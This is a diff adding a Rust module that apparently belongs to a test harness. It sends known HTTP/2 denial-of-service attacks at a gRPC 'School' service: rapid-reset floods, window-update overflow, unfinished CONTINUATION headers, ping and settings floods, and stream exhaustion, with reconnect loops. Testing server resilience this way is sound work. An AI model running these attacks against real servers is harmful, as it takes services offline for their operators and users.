@@ -1,0 +1,166 @@
+//! What one attacking connection does.
+
+use std::io;
+use std::net::SocketAddr;
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::time::Duration;
+
+use tokio::time::{Instant, sleep, timeout_at};
+
+use crate::cases::{Act, Calls, Case, Frame, Trick};
+use crate::data;
+use crate::wire::{
+    CONTINUATION, DATA, END_STREAM, HEADERS, OPEN, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Wire,
+    put,
+};
+
+const GET: &str = "/school.v1.School/GetSchool";
+const RECORD: &str = "/school.v1.School/RecordSchools";
+const SYNC: &str = "/school.v1.School/SyncSchools";
+
+/// How many frames go into one write.
+const BATCH: u32 = 1_000;
+
+/// Attacks until `until`, on a new connection whenever the server ends one; `of` connections share what is to be done.
+pub(crate) async fn attack(case: &'static Case, to: SocketAddr, of: u32, until: Instant, ended: &AtomicU32) {
+    // An attacker who is sent away comes back.
+    while let Ok(result) = timeout_at(until, once(case, to, of)).await {
+        if result.is_err() {
+            ended.fetch_add(1, Ordering::Relaxed);
+        }
+        sleep(Duration::from_millis(20)).await;
+    }
+}
+
+async fn once(case: &Case, to: SocketAddr, of: u32) -> io::Result<()> {
+    let path = match case.act {
+        Act::Drip { stalled: true, .. } => SYNC,
+        Act::Drip { .. } => RECORD,
+        _ => GET,
+    };
+    let mut wire = Wire::open(to, path, case.manner).await?;
+    match case.act {
+        Act::OpenCalls { calls, polite } => open_calls(&mut wire, calls.for_one(of), polite).await?,
+        Act::Drain(Calls::Allowed) => open_calls(&mut wire, u32::MAX, true).await?,
+        Act::Drain(calls) => open_calls(&mut wire, calls.for_one(of), false).await?,
+        Act::Unread { calls, note } => unread(&mut wire, calls, note).await?,
+        Act::Reset(trick) => reset(&mut wire, trick).await?,
+        Act::Drip { stalled, chunk } => data::drip(&mut wire, stalled, chunk).await?,
+        Act::HalfHeaders => half_headers(&mut wire).await?,
+        Act::Flood(frame) => flood(&mut wire, frame).await?,
+        Act::Idle | Act::Honest => {}
+    }
+    wire.hold().await
+}
+
+impl Calls {
+    fn for_one(self, of: u32) -> u32 {
+        match self {
+            Self::Each(calls) => calls,
+            Self::InAll(calls) => calls.div_ceil(of),
+            Self::Allowed => u32::MAX,
+        }
+    }
+}
+
+async fn open_calls(wire: &mut Wire, calls: u32, polite: bool) -> io::Result<()> {
+    let mut left = calls;
+    while left > 0 {
+        let batch = left.min(BATCH).min(if polite { wire.room() } else { BATCH });
+        let mut out = Vec::new();
+        for _ in 0..batch {
+            wire.put_call(&mut out, 0);
+        }
+        wire.send(&out).await?;
+        left -= batch;
+        if batch == 0 {
+            sleep(Duration::from_millis(10)).await;
+        }
+    }
+    Ok(())
+}
+
+async fn unread(wire: &mut Wire, calls: u32, note: u32) -> io::Result<()> {
+    let message = get_school(note);
+    let mut left = calls;
+    while left > 0 {
+        // One that never reads does not know how many of its calls have ended; it goes on.
+        let room = wire.room();
+        let batch = left.min(100).min(if room == 0 && wire.is_deaf() { 100 } else { room });
+        let mut out = Vec::new();
+        for _ in 0..batch {
+            let stream = wire.put_call(&mut out, 0);
+            put(&mut out, DATA, END_STREAM, stream, &message);
+        }
+        wire.send(&out).await?;
+        left -= batch;
+        sleep(Duration::from_millis(if batch == 0 { 10 } else { 1 })).await;
+    }
+    Ok(())
+}
+
+async fn reset(wire: &mut Wire, trick: Trick) -> io::Result<()> {
+    let message = get_school(100);
+    loop {
+        let mut out = Vec::new();
+        for _ in 0..BATCH {
+            let stream = wire.put_call(&mut out, 0);
+            if !matches!(trick, Trick::Rapid) {
+                put(&mut out, DATA, END_STREAM, stream, &message);
+            }
+            match trick {
+                // CANCEL.
+                Trick::Rapid => put(&mut out, RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
+                Trick::ZeroWindowUpdate => put(&mut out, WINDOW_UPDATE, 0, stream, &[0; 4]),
+                Trick::WindowOverflow => put(&mut out, WINDOW_UPDATE, 0, stream, &OPEN.to_be_bytes()),
+                Trick::DataAfterEnd => put(&mut out, DATA, 0, stream, b"more"),
+                Trick::OwnPriority => {
+                    let mut payload = stream.to_be_bytes().to_vec();
+                    payload.push(16);
+                    put(&mut out, PRIORITY, 0, stream, &payload);
+                }
+            }
+        }
+        wire.send(&out).await?;
+    }
+}
+
+async fn half_headers(wire: &mut Wire) -> io::Result<()> {
+    // A literal field, new name, whose value of some 2 MB never gets complete.
+    let mut out = Vec::new();
+    put(&mut out, HEADERS, 0, 1, b"\x83\x86\x40\x01x\x7f\x81\xff\x7f");
+    wire.send(&out).await?;
+    loop {
+        let mut out = Vec::new();
+        put(&mut out, CONTINUATION, 0, 1, &[b'x'; 1024]);
+        wire.send(&out).await?;
+        sleep(Duration::from_millis(20)).await;
+    }
+}
+
+async fn flood(wire: &mut Wire, frame: Frame) -> io::Result<()> {
+    let mut out = Vec::new();
+    for _ in 0..BATCH {
+        match frame {
+            Frame::Ping => put(&mut out, PING, 0, 0, b"12345678"),
+            Frame::Settings => put(&mut out, SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]),
+            Frame::WindowUpdate => put(&mut out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
+        }
+    }
+    loop {
+        wire.send(&out).await?;
+    }
+}
+
+/// `GetSchoolRequest { id: 1, note_bytes }` as a gRPC message.
+fn get_school(mut note: u32) -> Vec<u8> {
+    let mut message = vec![0x08, 1, 0x10];
+    while note >= 0x80 {
+        message.push(note as u8 | 0x80);
+        note >>= 7;
+    }
+    message.push(note as u8);
+    let mut framed = vec![0, 0, 0, 0, message.len() as u8];
+    framed.extend(message);
+    framed
+}
